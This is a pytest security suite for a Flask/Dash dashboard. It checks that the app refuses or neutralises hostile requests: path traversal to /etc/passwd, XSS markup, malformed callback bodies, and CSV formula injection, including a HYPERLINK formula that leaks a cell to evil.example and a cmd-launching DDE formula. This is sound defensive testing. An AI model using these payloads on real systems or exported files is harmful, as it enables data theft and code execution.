"""Hostile requests through Flask's test client: headers, debug, traversal, limits, payloads, data.

Callback requests are built from the app's own callback map, the way the
browser builds them (output, outputs, inputs, state, changedPropIds), so
every registered callback is sent every hostile value.
"""

import base64
import hashlib
import json
import re
import subprocess
import time

import pytest

from components.web.callbacks import provenance as provenance_callbacks
from components.web.http.security import MAX_BODY_BYTES
from tests.conftest import ROOT, make_config

UPDATE = "/_dash-update-component"
INLINE_SCRIPT = re.compile(r"<script(?P<attrs>[^>]*)>(?P<body>.*?)</script>", re.S)

HOSTILE_VALUES = [
    None,
    True,
    -1,
    1e308,
    "",
    "x" * 100_000,
    "<script>alert(1)</script>",
    "../../etc/passwd",
    [],
    ["<img src=x onerror=alert(1)>"],
    [1, None, {"a": 1}, [2]],
    ["jiangxi"] * 10_000,
    {"a": 1},
    {"points": [{"customdata": {"a": 1}}]},
    {"points": [{"customdata": ["x" * 10_000]}]},
    {"kind": "fact", "id": ["x"]},
    {"kind": "cluster", "id": "nope"},
    {"row_id": 5, "column_id": ["x"]},
    [{"column_id": ["x"], "direction": "asc"}, {"column_id": "value", "direction": {"a": 1}}],
    json.loads("[" * 50 + "]" * 50),
]

# A huge value, markup in a list, malformed objects.
SLOW_SAMPLE = [HOSTILE_VALUES[i] for i in (5, 9, 18)]


def server_callbacks(app):
    """(output key, spec) of every callback that runs on the server."""
    return [(key, spec) for key, spec in app.callback_map.items() if "callback" in spec]


def request_body(key, spec, values=None, changed=None):
    """A /_dash-update-component body as the browser sends it."""
    values = values or {}

    def items(declared):
        return [dict(item, value=values.get(f"{item['id']}.{item['property']}")) for item in declared]

    def split(part):
        component, prop = part.rsplit(".", 1)
        return {"id": component, "property": prop}

    outputs = [split(p) for p in key[2:-2].split("...")] if key.startswith("..") else split(key)
    inputs = items(spec["inputs"])
    return {
        "output": key,
        "outputs": outputs,
        "inputs": inputs,
        "state": items(spec["state"]),
        "changedPropIds": changed if changed is not None else [f"{inputs[0]['id']}.{inputs[0]['property']}"],
    }


def assert_clean(response, allowed=(200, 204), context=None):
    body = response.get_data(as_text=True)
    assert response.status_code in allowed, (response.status_code, body[:300], context)
    assert "Traceback" not in body and 'File "' not in body


# ---------------------------------------------------------------- headers


def test_every_response_carries_the_security_headers(client):
    page = client.get("/").get_data(as_text=True)
    suite = re.search(r'src="(/_dash-component-suites/[^"]+)"', page).group(1)
    documents = ["/", "/api/facts.csv", "/nope", "/assets/favicon.ico"]
    subresources = ["/assets/style.css", suite, "/_dash-layout", "/_dash-dependencies", "/api/facts.json"]
    for url in documents + subresources:
        response = client.get(url)
        headers = response.headers
        if url in documents:
            assert "default-src 'self'" in headers["Content-Security-Policy"], url
            assert "frame-ancestors 'none'" in headers["Content-Security-Policy"], url
        else:
            # Scripts, stylesheets and JSON are never documents: no policy to carry.
            assert "Content-Security-Policy" not in headers, url
        assert headers["X-Content-Type-Options"] == "nosniff", url
        assert headers["X-Frame-Options"] == "DENY", url
        assert headers["Referrer-Policy"] == "same-origin", url
    assert client.post(UPDATE, json={}).headers["X-Content-Type-Options"] == "nosniff"


def test_the_csp_allows_exactly_the_inline_scripts_dash_writes(client):
    """Every executable inline script of the page is hashed in script-src; nothing allows eval.

    The page itself runs none: boot.js (same-origin) starts Dash's scripts
    instead of Dash's inline renderer script (web.firstpaint).
    """
    response = client.get("/")
    policy = response.headers["Content-Security-Policy"]
    script_src = next(d for d in policy.split(";") if d.strip().startswith("script-src"))
    assert "unsafe-eval" not in policy and "'unsafe-inline'" not in script_src
    inline = [
        m.group("body")
        # Dash's IE warning sits in a conditional comment, which browsers skip.
        for m in INLINE_SCRIPT.finditer(re.sub(r"<!--.*?-->", "", response.get_data(as_text=True), flags=re.S))
        if "src=" not in m.group("attrs") and "application/json" not in m.group("attrs")
    ]
    assert "new DashRenderer" not in "".join(inline)
    for body in inline:
        digest = base64.b64encode(hashlib.sha256(body.encode("utf-8")).digest()).decode()
        assert f"'sha256-{digest}'" in script_src


# ---------------------------------------------------------------- debug


@pytest.mark.parametrize("debug", ["0", "1"])
def test_the_served_app_never_exposes_the_debugger(tmp_path, debug):
    """DASHBOARD_DEBUG reaches only `python app.py`; the factory's app has no debugger, /console is 404."""
    from app import create_app

    app = create_app(make_config(tmp_path, DASHBOARD_DEBUG=debug))
    assert not app.server.debug
    client = app.server.test_client()
    for path in ("/console", "/console?__debugger__=yes&cmd=resource&f=debugger.js", "/admin", "/.env"):
        assert client.get(path).status_code == 404, path


def test_an_exception_in_a_callback_is_a_generic_error(dash_app, client, monkeypatch):
    def fail(*_args, **_kwargs):
        raise RuntimeError("secret detail /work/main/components")

    monkeypatch.setattr(provenance_callbacks, "render_provenance", fail)
    key, spec = next((k, s) for k, s in server_callbacks(dash_app) if k.endswith("provenance-panel.children"))
    response = client.post(UPDATE, json=request_body(key, spec, {"provenance-selection.data": {"kind": "fact", "id": "x"}}))
    body = response.get_data(as_text=True)
    assert response.status_code == 500
    assert body == "internal server error\n"


# ---------------------------------------------------------------- paths


TRAVERSALS = [
    "/assets/../app.py",
    "/assets/%2e%2e/app.py",
    "/assets/..%2fapp.py",
    "/assets/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/assets/....//app.py",
    "/_dash-component-suites/dash/../../../etc/passwd",
    "/_dash-component-suites/dash/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/_dash-component-suites/dash/..%2f..%2f..%2fetc%2fpasswd",
    "/_dash-component-suites/dash/../../dash.py",
    "/_dash-component-suites/nope/x.js",
    "/_dash-component-suites/dash/dash_renderer.js",
    "/static/../app.py",
    "/..%2fapp.py",
    "/api/../app.py",
]


def test_path_traversal_is_refused(client):
    """Asset and component routes answer ../ in any spelling with a 4xx, never a file."""
    for path in TRAVERSALS:
        response = client.get(path)
        body = response.get_data(as_text=True)
        assert 400 <= response.status_code < 500, (path, response.status_code)
        assert "root:" not in body and "create_app" not in body and "import " not in body, path


# ---------------------------------------------------------------- callback payloads


def test_a_body_over_the_limit_is_413(client):
    body = b'{"output": "' + b"x" * (MAX_BODY_BYTES + 10) + b'"}'
    response = client.post(UPDATE, data=body, content_type="application/json")
    assert response.status_code == 413
    assert "Traceback" not in response.get_data(as_text=True)


def test_malformed_callback_requests_are_400(dash_app, client):
    key, spec = next((k, s) for k, s in server_callbacks(dash_app) if len(s["inputs"]) > 1)
    good = request_body(key, spec)
    bad = [
        b"not json",
        b"[" * 100_000 + b"]" * 100_000,  # deeper than the parser recurses
        b"[1, 2]",
        b'"a string"',
        json.dumps(dict(good, output="no-such.output")).encode(),
        json.dumps(dict(good, output=["a", "b"])).encode(),
        json.dumps({k: v for k, v in good.items() if k != "output"}).encode(),
        json.dumps(dict(good, inputs="x")).encode(),
        json.dumps(dict(good, inputs=good["inputs"][:-1])).encode(),
        json.dumps(dict(good, inputs=[dict(i, id="evil") for i in good["inputs"]])).encode(),
        json.dumps(dict(good, inputs=[dict(i, property="dangerously_allow_html") for i in good["inputs"]])).encode(),
        json.dumps(dict(good, inputs=[1] * len(good["inputs"]))).encode(),
        json.dumps(dict(good, state={"a": 1})).encode(),
        json.dumps(dict(good, outputs=[])).encode(),
        json.dumps(dict(good, outputs={"id": "page-title", "property": "children"})).encode(),
        json.dumps(dict(good, changedPropIds="x")).encode(),
        json.dumps(dict(good, changedPropIds=["{not json.value"])).encode(),
        json.dumps(dict(good, changedPropIds=[["a"]])).encode(),
    ]
    for body in bad:
        response = client.post(UPDATE, data=body, content_type="application/json")
        assert_clean(response, allowed=(400,))
    clientside = [k for k, s in dash_app.callback_map.items() if "callback" not in s]
    for key in clientside:  # run in the browser only; nothing to call here
        assert_clean(client.post(UPDATE, json=dict(good, output=key)), allowed=(400,))
    assert_clean(client.post(UPDATE, data=json.dumps(good), content_type="text/plain"), allowed=(400,))


def test_hostile_values_reach_every_callback_without_an_error(dash_app, client):
    """Wrong types, unknown ids, huge values in every input and state: 200 or 204, never a 500.

    A callback that takes over a second per call (a server-side render) is
    sent a sample instead, each value in all its inputs at once, to keep the
    suite fast.
    """
    sent = 0
    for key, spec in server_callbacks(dash_app):
        declared = spec["inputs"] + spec["state"]
        started = time.monotonic()
        response = client.post(UPDATE, json=request_body(key, spec, {f"{i['id']}.{i['property']}": True for i in declared}))
        assert_clean(response, context=key[:60])
        if time.monotonic() - started > 1:
            for value in SLOW_SAMPLE:
                everywhere = {f"{i['id']}.{i['property']}": value for i in declared}
                assert_clean(client.post(UPDATE, json=request_body(key, spec, everywhere)), context=(key[:60], repr(value)[:60]))
                sent += 1
            continue
        for item in declared:
            prop_id = f"{item['id']}.{item['property']}"
            changed = [prop_id] if item in spec["inputs"] else None
            for value in HOSTILE_VALUES:
                response = client.post(UPDATE, json=request_body(key, spec, {prop_id: value}, changed))
                assert_clean(response, context=(key[:60], prop_id, repr(value)[:60]))
                sent += 1
    assert sent > 100


# ---------------------------------------------------------------- hostile data

HOSTILE_LABEL = "<script>alert(1)</script>示例指标"
HOSTILE_NOTE = '<a href="javascript:alert(2)">click</a>'
HOSTILE_QUOTE = "江西<img src=x onerror=alert(3)>新增示范企业120家"


@pytest.fixture
def hostile_app(data_copy, tmp_path):
    """The dashboard over data whose labels, note and quote are markup."""
    return app_with_hostile_fact(data_copy, tmp_path, HOSTILE_LABEL, HOSTILE_NOTE, HOSTILE_NOTE)


def app_with_hostile_fact(data_copy, tmp_path, label, note_zh, note_en):
    """The dashboard with one more fact (jiangxi, 2020) of these label and notes, quoting HOSTILE_QUOTE."""
    import csv

    from app import create_app

    data_dir, seeds_dir = data_copy
    (seeds_dir / "hostile.txt").write_text(f"去年,{HOSTILE_QUOTE}。\n", encoding="utf-8")
    facts = sorted((data_dir / "facts").glob("*.csv"))[0]
    with open(facts, encoding="utf-8", newline="") as handle:
        template = next(csv.DictReader(handle))
    row = dict.fromkeys(template, "")
    row.update(
        fact_id="hostile_demo_2020",
        dataset="digitalization",
        region_id="jiangxi",
        indicator_id="hostile_demo",
        indicator_zh=label,
        indicator_en=label,
        period="2020",
        value="120",
        unit="count",
        qualifier="exact",
        derived="false",
        source_file="hostile.txt",
        source_quote=HOSTILE_QUOTE,
        note_zh=note_zh,
        note_en=note_en,
    )
    with open(data_dir / "facts" / "hostile.csv", "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(template), lineterminator="\n")
        writer.writeheader()
        writer.writerow(row)
    meta_path = data_dir / "metadata.json"
    meta = json.loads(meta_path.read_text(encoding="utf-8"))
    meta["sources"].append(dict(meta["sources"][0], file="hostile.txt"))
    meta_path.write_text(json.dumps(meta, ensure_ascii=False), encoding="utf-8")
    return create_app(make_config(tmp_path, data_dir, seeds_dir))


def strings_in(node):
    """Every string anywhere in a JSON value."""
    if isinstance(node, str):
        yield node
    elif isinstance(node, dict):
        for value in node.values():
            yield from strings_in(value)
    elif isinstance(node, list):
        for value in node:
            yield from strings_in(value)


def keys_in(node):
    if isinstance(node, dict):
        for key, value in node.items():
            yield key
            yield from keys_in(value)
    elif isinstance(node, list):
        for value in node:
            yield from keys_in(value)


def post_view(app, output_suffix, values):
    """The JSON response of the callback whose output key ends with ``output_suffix``."""
    key, spec = next((k, s) for k, s in server_callbacks(app) if output_suffix in k)
    changed = [f"{spec['inputs'][0]['id']}.{spec['inputs'][0]['property']}"]
    response = app.server.test_client().post(UPDATE, json=request_body(key, spec, values, changed))
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return response.get_json()["response"]


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_markup_in_the_data_reaches_the_charts_as_text(hostile_app, lang):
    """Plotly reads <b>, <a> and entities in labels; data is escaped so it shows as typed."""
    response = post_view(hostile_app, "chart-data.data", {"region-filter.value": ["jiangxi"], "lang-toggle.value": lang})
    figures = [item["figure"] for item in response["chart-data"]["data"]["graphs"].values() if "figure" in item]
    texts = [s for fig in figures for s in strings_in(fig)]
    assert any("&lt;script&gt;alert(1)&lt;/script&gt;" in s for s in texts)
    assert not any("<script" in s or "<img" in s or "javascript:" in s and "<a" in s for s in texts)


def test_markup_in_the_data_reaches_the_table_and_provenance_as_plain_strings(hostile_app):
    """React writes strings as text: the table and panel carry the raw text, in no HTML-rendering prop."""
    drawn = {"n": 1, "view": {"regions": ["jiangxi"], "lang": "zh"}}
    table = post_view(hostile_app, "facts-table.children", {"charts-settled.data": drawn})
    cells = list(strings_in(table["facts-table"]["children"]))
    assert HOSTILE_QUOTE in cells  # a cell's whole text: a string child, never markup
    assert "dangerously_allow_html" not in str(table)

    panel = post_view(hostile_app, "provenance-panel.children", {"provenance-selection.data": {"kind": "fact", "id": "hostile_demo_2020"}, "lang-toggle.value": "zh"})
    tree = panel["provenance-panel"]["children"]
    texts = list(strings_in(tree))
    assert HOSTILE_LABEL in texts and HOSTILE_NOTE in texts
    assert any("<img" in s and "alert(3)>" in s for s in texts)  # the quote, highlighted, as a string
    assert "dangerously_allow_html" not in set(keys_in(tree))
    assert not any(node in ("Markdown", "Iframe") for node in strings_in(tree))


def test_csv_download_keeps_the_data_as_typed(hostile_app):
    body = hostile_app.server.test_client().get("/api/facts.csv?region=jiangxi").get_data(as_text=True)
    assert HOSTILE_QUOTE in body


# ---------------------------------------------------------------- formulas in CSV

EXPORT_VALUE_COLUMN = 7  # fact_id, dataset, region_id, indicator_id, indicator_zh, indicator_en, period, value
FORMULA_LABEL = '=HYPERLINK("http://evil.example/?leak="&A1,"示例指标")'
FORMULA_NOTES = ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3")


@pytest.fixture
def formula_app(data_copy, tmp_path):
    """The dashboard over a fact whose label and notes a spreadsheet would run as formulas."""
    return app_with_hostile_fact(data_copy, tmp_path, FORMULA_LABEL, *FORMULA_NOTES)


def assert_neutralised(csv_text: str) -> None:
    """The hostile fact's text cells start with a quote; its value, and every number, is still a number."""
    import csv as csv_module
    import io

    rows = list(csv_module.DictReader(io.StringIO(csv_text.lstrip("\ufeff"))))
    (row,) = [r for r in rows if r["fact_id"] == "hostile_demo_2020"]
    assert row["indicator_zh"] == "'" + FORMULA_LABEL and row["indicator_en"] == "'" + FORMULA_LABEL
    assert (row["note_zh"], row["note_en"]) == tuple("'" + note for note in FORMULA_NOTES)
    assert row["value"] == "120" and row["source_quote"] == HOSTILE_QUOTE
    for r in rows:
        for column, cell in r.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or column == "value", (column, cell)


def test_csv_download_route_neutralises_formulas(formula_app):
    response = formula_app.server.test_client().get("/api/facts.csv?region=jiangxi")
    assert response.status_code == 200
    assert_neutralised(response.get_data(as_text=True))


def test_the_table_download_neutralises_formulas(formula_app):
    """"Download table (CSV)": the download callback's CSV of the table's rows."""
    key, spec = next((k, s) for k, s in server_callbacks(formula_app) if "facts-download.data" in k)
    values = {"facts-download-button.n_clicks": 1, "region-filter.value": ["jiangxi"], "lang-toggle.value": "en", "facts-table.sort_by": []}
    response = formula_app.server.test_client().post(UPDATE, json=request_body(key, spec, values, ["facts-download-button.n_clicks"]))
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    download = response.get_json()["response"]["facts-download"]["data"]
    assert_neutralised(download["content"])


def test_the_csv_in_the_export_zip_neutralises_formulas(formula_app):
    from tests.unit.test_export import FakeRenderer

    from components.services.exports import export_bundle

    with formula_app.server.test_request_context("/"):
        _, files = export_bundle(["jiangxi"], "zh", None, FakeRenderer())
    (name,) = [n for n in files if n.endswith(".csv")]
    assert_neutralised(files[name].decode("utf-8"))


def test_negative_numbers_stay_numbers_and_only_text_is_quoted(dataset):
    import pandas as pd

    from components.services.downloads import facts_csv, neutralise_text

    facts = dataset.facts.head(2).copy()
    facts["value"] = [-3.5, 2.0]
    facts["note_en"] = facts["note_en"].astype("string")
    facts.loc[facts.index[1], "note_en"] = "=1+1"
    rows = facts_csv(facts).splitlines()
    assert rows[1].split(",")[EXPORT_VALUE_COLUMN] == "-3.5" and rows[2].endswith(",'=1+1")

    assert neutralise_text(pd.Series(["=1", "a", "-x", None, "@b", "\tz", "\rq", "+1"])).tolist() == [
        "'=1", "a", "'-x", pd.NA, "'@b", "'\tz", "'\rq", "'+1",
    ]
    numbers = pd.Series([-3.5, 2.0])
    assert neutralise_text(numbers) is numbers


def test_nothing_renders_raw_html():
    """No component is ever told to render a string as HTML."""
    found = subprocess.run(
        ["grep", "-rIl", "dangerously_allow_html", "app.py", "components", "assets", "scripts"],
        cwd=ROOT, capture_output=True, text=True,
    ).stdout.split()
    assert found == []
